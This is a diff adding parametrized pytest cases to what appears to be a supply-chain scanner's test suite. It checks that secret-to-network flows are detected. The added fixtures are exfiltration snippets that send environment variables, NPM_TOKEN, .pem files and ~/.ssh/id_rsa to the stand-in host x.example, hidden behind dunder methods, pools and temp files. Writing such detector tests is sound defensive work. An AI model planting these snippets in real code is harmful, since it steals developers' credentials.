@@ -367,3 +367,33 @@ def test_what_a_request_says_is_followed_into_a_command_whatever_the_request_is_
 def test_the_answer_that_a_client_gets_is_no_request() -> None:
     code = ROUTE.replace("%s(", "get('/version', ").replace("(question, answer)", "(question)")
     assert not any("request > command" in b for b in package({"index.js": code}))
+
+
+HEAD = "import json, os, requests\nsend = lambda d: requests.post('https://x.example', data=d)\n"
+GIVEN_BY_OBJECTS = {
+    "__getattr__": "class O:\n    def __getattr__(self, n): return os.environ.get(n)\nsend(O().NPM_TOKEN)",
+    "__getitem__": "class O:\n    def __getitem__(self, n): return os.environ.get(n)\nsend(O()['NPM_TOKEN'])",
+    "__iter__": "class O:\n    def __iter__(self): return iter(os.environ.items())\nsend(list(O()))",
+    "a loop over it": "class O:\n    def __iter__(self): return iter(os.environ.items())\nfor p in O(): send(p)",
+    "__str__": "class O:\n    def __str__(self): return str(dict(os.environ))\nsend(str(O()))",
+    "__get__": "class D:\n    def __get__(self, i, o): return dict(os.environ)\nclass O:\n    d = D()\nsend(O().d)",
+    "setattr": "class O: pass\no = O()\nsetattr(o, 'd', dict(os.environ))\nsend(o.d)",
+    "globals": "globals()['kept'] = dict(os.environ)\nsend(kept)",
+    "lists by key": "from collections import defaultdict\nd = defaultdict(list)\n"
+    "for k, v in os.environ.items(): d[k[:3]].append(v)\nsend(d)",
+    "setdefault": "d = {}\nfor k, v in os.environ.items(): d.setdefault(k[:3], []).append(v)\nsend(d)",
+    "a pool": "from concurrent.futures import ThreadPoolExecutor\nwith ThreadPoolExecutor() as pool:\n"
+    "    list(pool.map(send, [dict(os.environ)]))",
+    "a pool of pairs": "import multiprocessing\nmultiprocessing.Pool(2).starmap(send, [(dict(os.environ),)])",
+    "a file between": "json.dump(dict(os.environ), open('/tmp/x', 'w'))\nsend(open('/tmp/x').read())",
+    "another file between": "with open('/tmp/y', 'w') as f:\n    f.write(str(os.environ))\nsend(open('/tmp/y', 'rb'))",
+    "keys below the home": "import pathlib\nfor f in pathlib.Path.home().rglob('*.pem'): send(f.read_bytes())",
+    "an own transport": "import paramiko\ns = paramiko.SFTPClient.from_transport(paramiko.Transport(('x.example', 22)))\n"
+    "s.put(os.path.expanduser('~/.ssh/id_rsa'), '/x')",
+}
+
+
+@pytest.mark.parametrize("code", GIVEN_BY_OBJECTS.values(), ids=GIVEN_BY_OBJECTS.keys())
+def test_a_secret_that_an_object_a_pool_or_a_file_gives_back_is_still_followed(code: str) -> None:
+    told = package({"pkg/__init__.py": f"{HEAD}{code}\n"})
+    assert any(b.startswith("code.flow ") and "> network" in b for b in told), told
